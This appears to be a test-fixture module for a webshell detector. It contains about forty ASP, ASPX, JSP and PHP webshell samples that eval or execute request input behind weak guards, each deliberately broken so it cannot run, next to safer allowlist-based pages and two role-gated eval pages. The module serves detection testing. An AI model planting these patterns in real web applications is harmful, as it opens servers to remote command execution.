# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Pages with conditions: those that leave a client free to send what it likes, and those that do not; of the first none can run."""

from tests.detection.webshell.second_samples import cut

FREE = cut(
    r"""
==== guard-1.asp
<% Dim 1broken : If Request("pw") = "abc" Then Execute Request("c") %>
==== guard-2.aspx
<%@ Page Language="C#" %><% int 1broken; if (Request["a"].Length > 0 && Request["a"] != "") Process.Start("cmd", Request["a"]); %>
==== guard-3.asp
<% Dim 1broken : Set re = New RegExp : re.Pattern = "^\d+$" : If re.Test(Request("n")) Then Execute Request("c") %>
==== guard-4.asp
<% Dim 1broken : x = Request("c") : Set re = New RegExp : re.Pattern = "\w+" : If re.Test(x) Then Execute x %>
==== guard-5.jsp
<% int 1broken; String c = request.getParameter("c"); if (c.matches("[a-z]+ .*")) Runtime.getRuntime().exec(c); %>
==== guard-6.aspx
<%@ Page Language="C#" %><% int 1broken; if (Array.IndexOf(Request.Form.AllKeys, "c") >= 0) Process.Start("cmd", "/c " + Request.Form["c"]); %>
==== guard-7.php
<?php 1broken; $c = $_POST['c']; if ($c != 'help') { system($c); }
==== guard-8.php
<?php 1broken; $c = $_POST['c']; if ($c == '') { echo 'x'; } else { system($c); }
==== guard-9.jsp
<% int 1broken; String c = request.getParameter("c"); java.util.List<String> deny = java.util.Arrays.asList("rm", "dd"); if (!deny.contains(c)) Runtime.getRuntime().exec(c); %>
==== guard-10.asp
<% Dim 1broken : x = Request("c") : Set re = New RegExp : re.Pattern = "^[\d,]+$" : If re.Test(x) Then
For Each n In Split(x, ",") : s = s & Chr(n) : Next : Execute s
End If %>
==== guard-11.php
<?php 1broken; $x = $_POST['c']; if (preg_match('~^[A-Za-z0-9+/=]+$~', $x)) { eval(base64_decode($x)); }
==== guard-12.jsp
<%@ page import="java.io.*" %><% int 1broken; String p = request.getParameter("p"); if (p.startsWith("/")) { File f = new File(p); if (request.getParameter("d") != null) f.delete(); for (String s : f.list()) out.print(s); f.mkdirs(); FileWriter w = new FileWriter(p); w.write(request.getParameter("t")); w.close(); } %>
==== guard-13.php
<?php 1broken; if ($_POST['pw'] !== 'x') exit; eval($_POST['c']);
==== guard-14.asp
<% Dim 1broken : a = Split(Request("z"), "|") : If a(0) = "k" Then Execute a(1) %>
==== guard-15.asp
<% Dim 1broken : If Request("k") = "v" Then
 Execute Request("k2")
End If %>
==== guard-16.asp
<%@ Language="JScript" %><% var 1broken; var o = eval("(" + "{}" + ")"); var q = String(Request.Form("j")).split("&"); if (q[0] == "pw") { eval(q[1]); } %>
==== guard-17.php
<?php 1broken; if (isset($_GET['c'])) system($_GET['c']);
==== guard-18.jsp
<% int 1broken; if (request.getParameterMap().containsKey("c")) Runtime.getRuntime().exec(request.getParameter("c")); %>
==== guard-19.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; bool Ok(string s) { return s == "x"; } void Page_Load() { if (!Ok(Request["p"])) return; Process.Start(Request["c"]); }</script>
==== guard-20.asp
<% Dim 1broken : If InStr(Request.ServerVariables("HTTP_USER_AGENT"), "zz") > 0 Then Execute Request("c") %>
==== guard-21.php
<?php 1broken; $c = $_GET['c']; if (strpos($c, 'ls') === 0) system($c);
==== guard-22.php
<?php 1broken; $o = json_decode(file_get_contents('php://input')); if ($o->pw === 'x') { eval($o->code); }
==== guard-23.aspx
<%@ Page Language="C#" %><% int 1broken; var p = Request["z"].Split('|'); if (p[0] == "pw") System.Reflection.Assembly.Load(Convert.FromBase64String(p[1])); %>
==== guard-24.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load()
 Dim c As String = Request("c")
 If c = "" Then Response.Write("form") Else Shell("cmd /c " & c)
End Sub</script>
==== guard-25.php
<?php 1broken; $c = $_POST['c']; if (!in_array($c, ['a','b'])) { $c = $_POST['d']; } eval($c);
==== guard-26.php
<?php 1broken; $f = $_GET['f']; if (in_array($f, ['system', 'exec'])) $f($_GET['c']);
==== guard-28.asp
<% Dim 1broken : x = Request("x") : If x <> "" Then
 If x = "list" Then
  Response.Write "l"
 Else
  Execute x
 End If
End If %>
==== guard-29.jsp
<% int 1broken; String c = request.getParameter("c"); if (c == null) { out.print("?"); return; } Runtime.getRuntime().exec(c); %>
==== guard-30.aspx
<%@ Page Language="C#" %><% int 1broken; string p = Request["p"]; string d = System.IO.Path.GetFullPath(p); if (d.StartsWith(Request["r"])) System.IO.File.WriteAllText(d, Request["t"]); %>
==== guard-31.aspx
<%@ Page Language="C#" %><% int 1broken; var c = Request["c"]; if (System.Text.RegularExpressions.Regex.IsMatch(c, "^[a-z ]+$", RegexOptions.None)) System.Diagnostics.Process.Start("cmd", "/c " + c); %>
==== guard-32.php
<?php 1broken; $m = $_POST['m']; switch ($m) { case 'a': system($_POST['c']); break; default: eval($_POST['c']); }
==== guard-33.asp
<% Dim 1broken : Select Case Request("a")
Case "x" : Execute Request("c")
Case Else : Response.End
End Select %>
==== guard-34.jsp
<% int 1broken; String u = request.getHeader("X-U"); if ("k".equals(u)) { new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getHeader("X-V")); } %>
==== guard-35.php
<?php 1broken; $k = key($_POST); if ($k === 'zz') eval(current($_POST));
==== guard-36.php
<?php 1broken; foreach ($_POST as $n => $v) { if ($n == 'zz') { eval($v); } }
==== guard-37.aspx
<%@ Page Language="C#" %><% int 1broken; foreach (string k in Request.Form) { if (k == "zz") System.Diagnostics.Process.Start("cmd", "/c " + Request.Form[k]); } %>
==== guard-38.jsp
<% int 1broken; java.io.BufferedReader r = request.getReader(); String a = r.readLine(); if ("k".equals(a)) Runtime.getRuntime().exec(r.readLine()); %>
==== guard-39.jsp
<% int 1broken; java.io.BufferedReader r = request.getReader(); if (r.readLine().equals("k")) Runtime.getRuntime().exec(r.readLine()); %>
==== guard-40.aspx
<%@ Page Language="C#" %><% int 1broken; var r = new System.IO.StreamReader(Request.InputStream); if (r.ReadLine() == "k") System.Diagnostics.Process.Start("cmd", "/c " + r.ReadLine()); %>
"""
)

HELD = cut(
    r"""
==== held-1.asp
<% Dim x, re : x = Request("n") : Set re = New RegExp : re.Pattern = "^\d{1,6}$"
If Not re.Test(x) Then
  Response.Write "no" : Response.End
End If
Set w = CreateObject("WScript.Shell") : w.Run "d:\tools\invoice.exe " & x, 0, True %>
==== held-2.aspx
<%@ Page Language="C#" %><% var tools = new Dictionary<string, string> { { "ip", "ipconfig" }, { "net", "netstat -an" } }; string t; if (tools.TryGetValue(Request["t"], out t)) System.Diagnostics.Process.Start("cmd", "/c " + t); %>
==== held-3.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Page_Load()
 Dim t As New Hashtable() : t.Add("a", "ipconfig") : t.Add("b", "hostname")
 If t.ContainsKey(Request("t")) Then Shell(CStr(t.Item(Request("t"))))
End Sub</script>
==== held-4.jsp
<% String op = request.getParameter("op"); java.util.List<String> ok = java.util.Arrays.asList("uptime", "df", "free"); if (!ok.contains(op)) { response.sendError(400); return; } Runtime.getRuntime().exec(op); %>
==== held-5.php
<?php $ops = ['up' => 'uptime', 'df' => 'df -h']; $k = $_GET['k'] ?? ''; if (isset($ops[$k])) { echo '<pre>', htmlspecialchars(shell_exec($ops[$k])), '</pre>'; }
==== held-6.php
<?php $x = $_POST['x']; if (!preg_match('~^[\d+*/(). -]+$~', $x)) { exit('digits only'); } eval('$r = ' . $x . ';'); echo $r;
==== held-7.aspx
<%@ Page Language="C#" %><script runat="server">void Page_Load() { string h = Request["h"]; if (!Regex.IsMatch(h, @"^[a-z0-9.-]{1,60}$")) return; var p = Process.Start(new ProcessStartInfo("ping", "-n 2 " + h) { RedirectStandardOutput = true, UseShellExecute = false }); Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd())); }</script>
==== held-8.aspx
<%@ Page Language="C#" %><% string root = System.IO.Path.GetFullPath(Server.MapPath("~/docs")); string p = System.IO.Path.GetFullPath(System.IO.Path.Combine(root, Request["p"])); if (!p.StartsWith(root)) throw new HttpException(403, "no"); switch (Request["do"]) { case "rm": System.IO.File.Delete(p); break; case "ls": foreach (var f in System.IO.Directory.GetFiles(p)) Response.Write(f); break; case "mk": System.IO.Directory.CreateDirectory(p); break; case "get": Response.Write(System.IO.File.ReadAllText(p)); break; case "put": System.IO.File.WriteAllText(p, Request["t"]); break; } %>
==== held-9.jsp
<%@ page import="java.io.*" %><% File root = new File(application.getRealPath("/docs")).getCanonicalFile(); File f = new File(root, request.getParameter("p")).getCanonicalFile(); if (!f.getPath().startsWith(root.getPath() + File.separator)) { response.sendError(403); return; } if ("rm".equals(request.getParameter("do"))) f.delete(); for (File c : f.listFiles()) out.print(c.getName()); if (request.getParameter("mk") != null) f.mkdirs(); FileWriter w = new FileWriter(f); w.write(request.getParameter("t")); w.close(); %>
==== held-11.asp
<% Dim act : act = Request("a")
Select Case act
Case "ip" : c = "ipconfig"
Case "ns" : c = "netstat -an"
Case Else : Response.End
End Select
Set s = Server.CreateObject("WScript.Shell") : Response.Write s.Exec(c).StdOut.ReadAll %>
==== held-12.asp
<%@ Language="JScript" %><% var x = String(Request.Form("e")); if (/^[\d\s+\-*\/().]+$/.test(x)) { Response.Write(eval(x)); } else { Response.Write("?"); } %>
==== held-13.aspx
<%@ Page Language="C#" %><% string[] ok = { "daily", "weekly" }; string r = Request["r"]; if (Array.IndexOf(ok, r) < 0) { Response.StatusCode = 400; Response.End(); } System.Diagnostics.Process.Start("d:\\jobs\\" + r + ".cmd"); %>
==== held-14.jsp
<%! enum Op { UP("uptime"), DF("df -h"); final String c; Op(String c) { this.c = c; } } %><% Op o = Op.valueOf(request.getParameter("o")); Process p = Runtime.getRuntime().exec(o.c); %>
==== held-15.jsp
<% String cmd; switch (request.getParameter("o")) { case "a": cmd = "uptime"; break; case "b": cmd = "free -m"; break; default: response.sendError(404); return; } Runtime.getRuntime().exec(cmd); %>
==== held-16.aspx
<%@ Page Language="C#" %><% var c = Request["o"] switch { "a" => "ipconfig", "b" => "hostname", _ => null }; if (c != null) System.Diagnostics.Process.Start(c); %>
==== held-37.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Page_Load()
 If Not User.IsInRole("Ops") Then
  Response.StatusCode = 403
  Response.End()
 End If
 Dim n As String = Request("n")
 If Regex.IsMatch(n, "^[A-Za-z0-9-]+$") Then
  Process.Start("c:\windows\system32\ping.exe", "-n 1 " & n)
 End If
End Sub</script>
==== held-38.asp
<% allowed = ",report,stock,orders," : n = LCase(Request("n"))
If InStr(allowed, "," & n & ",") = 0 Then Response.Redirect "default.asp"
Set s = CreateObject("WScript.Shell") : s.Run "d:\jobs\" & n & ".cmd", 0, False %>
==== held-more-1.asp
<% Set d = CreateObject("Scripting.Dictionary") : d("a") = "ipconfig" : d("b") = "hostname"
k = Request("k") : If d.Exists(k) Then : Response.Write CreateObject("WScript.Shell").Exec(d(k)).StdOut.ReadAll : End If %>
==== held-more-2.aspx
<%@ Page Language="C#" %><script runat="server">static readonly System.Collections.Generic.HashSet<string> Ok = new System.Collections.Generic.HashSet<string>(StringComparer.OrdinalIgnoreCase) { "iis", "dns" }; void Page_Load() { var s = Request["s"]; if (!Ok.Contains(s)) { Response.StatusCode = 404; return; } System.Diagnostics.Process.Start("sc.exe", "query " + s); }</script>
==== held-more-3.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Page_Load()
 Dim n As Integer
 If Not Integer.TryParse(Request("n"), n) Then Return
 Process.Start("d:\tools\print.exe", n.ToString())
End Sub</script>
==== held-more-4.php
<?php $n = $_GET['n']; if (!ctype_digit($n)) { die('bad'); } passthru("/usr/bin/lpstat -j $n");
==== held-more-5.php
<?php preg_match('/^[a-f0-9]{40}$/', $_GET['rev']) or die('bad'); $r = $_GET['rev']; if (preg_match('/^[a-f0-9]{40}$/', $r)) { echo shell_exec("git show $r"); }
==== held-more-6.jsp
<% String id = request.getParameter("id"); if (!java.util.regex.Pattern.matches("\\d{1,9}", id)) throw new ServletException("id"); new ProcessBuilder("/opt/bin/render", "--id", id).start(); %>
==== held-more-7.jsp
<%! static final java.util.regex.Pattern N = java.util.regex.Pattern.compile("^[a-z]{2,12}$"); %><% String t = request.getParameter("t"); if (N.matcher(t).matches()) { Runtime.getRuntime().exec("/opt/jobs/" + t + ".sh"); } %>
==== held-more-8.jsp
<% java.util.Properties p = new java.util.Properties(); p.load(application.getResourceAsStream("/WEB-INF/ops.properties")); String c = p.getProperty(request.getParameter("op")); if (c != null) Runtime.getRuntime().exec(c); %>
==== held-more-9.jsp
<% String op = request.getParameter("op"); String c = "up".equals(op) ? "uptime" : "df".equals(op) ? "df -h" : null; if (c != null) Runtime.getRuntime().exec(c); %>
==== held-more-10.aspx
<%@ Page Language="C#" %><% string f = System.IO.Path.GetFileName(Request["f"]); if (!Regex.IsMatch(f, @"^[\w-]+\.(log|txt)$")) throw new HttpException(400, "x"); Response.TransmitFile(Server.MapPath("~/App_Data/logs/" + f)); System.IO.File.Delete(Server.MapPath("~/App_Data/tmp/" + f)); %>
==== held-more-11.asp
<% n = Request("n") : If IsNumeric(n) Then
 Set sh = CreateObject("WScript.Shell") : sh.Run "d:\tools\mail.exe -id " & n, 0, True
Else
 Response.Write "?"
End If %>
==== held-more-12.asp
<% f = Request("f") : root = Server.MapPath("/files") : Set fso = CreateObject("Scripting.FileSystemObject") : p = fso.GetAbsolutePathName(root & "\" & f)
If Left(LCase(p), Len(root) + 1) <> LCase(root) & "\" Then
 Response.Status = "403 Forbidden" : Response.End
End If
Select Case Request("a")
Case "rm" : fso.DeleteFile p
Case "ls" : For Each x In fso.GetFolder(p).Files : Response.Write x.Name : Next
Case "mk" : fso.CreateFolder p
Case "wr" : Set t = fso.CreateTextFile(p & ".txt") : t.Write Request("t") : t.Close
End Select %>
==== held-more-13.php
<?php $allowed = array_flip(['date', 'who']); $c = $_REQUEST['c']; if (array_key_exists($c, $allowed)) { echo `$c`; }
==== held-more-14.php
<?php $p = $_GET['page'] ?? 'home'; $map = ['home' => 'home.php', 'faq' => 'faq.php']; include __DIR__ . '/pages/' . ($map[$p] ?? 'home.php');
==== held-more-19.php
<?php foreach ($_POST['hosts'] as $h) { if (!filter_var($h, FILTER_VALIDATE_IP)) continue; $list[] = $h; } file_put_contents('/srv/data/hosts.json', json_encode($list));
==== held-more-37.aspx
<%@ Page Language="C#" %><% var o = (Mode)Enum.Parse(typeof(Mode), Request["m"]); System.Diagnostics.Process.Start("d:\\tools\\sync.exe", "--mode " + o); %>
==== held-more-38.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Page_Load()
 Dim cmd As String = Nothing
 Select Case Request("op")
  Case "a" : cmd = "ipconfig"
  Case "b" : cmd = "hostname"
 End Select
 If cmd IsNot Nothing Then Shell(cmd)
End Sub</script>
==== held-more-39.asp
<% op = Request("op") : If op = "ipconfig" Or op = "hostname" Then
 Response.Write CreateObject("WScript.Shell").Exec(op).StdOut.ReadAll
End If %>
==== held-more-40.asp
<% cmds = Array("ipconfig", "hostname") : i = CInt(Request("i")) : If i >= 0 And i <= UBound(cmds) Then Response.Write CreateObject("WScript.Shell").Exec(cmds(i)).StdOut.ReadAll %>
==== held-more-41.asp
<% Response.Write CreateObject("WScript.Shell").Exec(Choose(CInt(Request("i")), "ipconfig", "hostname")).StdOut.ReadAll %>
==== held-more-42.aspx
<%@ Page Language="C#" %><script runat="server">static readonly NameValueCollection Ops = new NameValueCollection { { "ip", "ipconfig" } }; void Page_Load() { var c = Ops.Get(Request["o"]); if (c != null) System.Diagnostics.Process.Start("cmd", "/c " + c); c = ConfigurationManager.AppSettings[Request["o"]]; }</script>
"""
)

RIGHTS = cut(
    r"""
==== rights-30.jsp
<%@ page import="org.example.*" %><% if (!request.isUserInRole("admin")) { response.sendError(403); return; } out.print(new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("s"))); %>
==== rights-36.php
<?php if (!current_user_can('manage_options')) { wp_die('no'); } eval(stripslashes($_POST['snippet']));
"""
)
